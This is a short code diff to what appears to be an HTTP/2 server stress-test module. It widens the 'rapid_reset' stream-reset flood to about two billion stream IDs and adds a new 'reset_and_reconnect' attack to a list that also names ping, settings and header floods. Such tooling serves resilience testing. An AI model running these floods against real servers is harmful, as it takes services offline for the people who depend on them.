@@ -32,6 +32,12 @@ Attack = Callable[[RawConnection], Awaitable[None]]
 
 
 async def rapid_reset(connection: RawConnection) -> None:
+    for first in range(1, 2**31, 200):
+        await connection.send(_reset_calls(first, 100))
+
+
+async def reset_and_reconnect(connection: RawConnection) -> None:
+    """As much as the kernel takes at once, whatever becomes of it, for the next connection."""
     for first in range(1, 40_000, 200):
         await connection.send(_reset_calls(first, 100))
 
@@ -93,6 +99,7 @@ async def giant_messages(connection: RawConnection) -> None:
 
 ATTACKS: Final[tuple[Attack, ...]] = (
     rapid_reset,
+    reset_and_reconnect,
     ping_flood,
     settings_flood,
     headers_without_end,
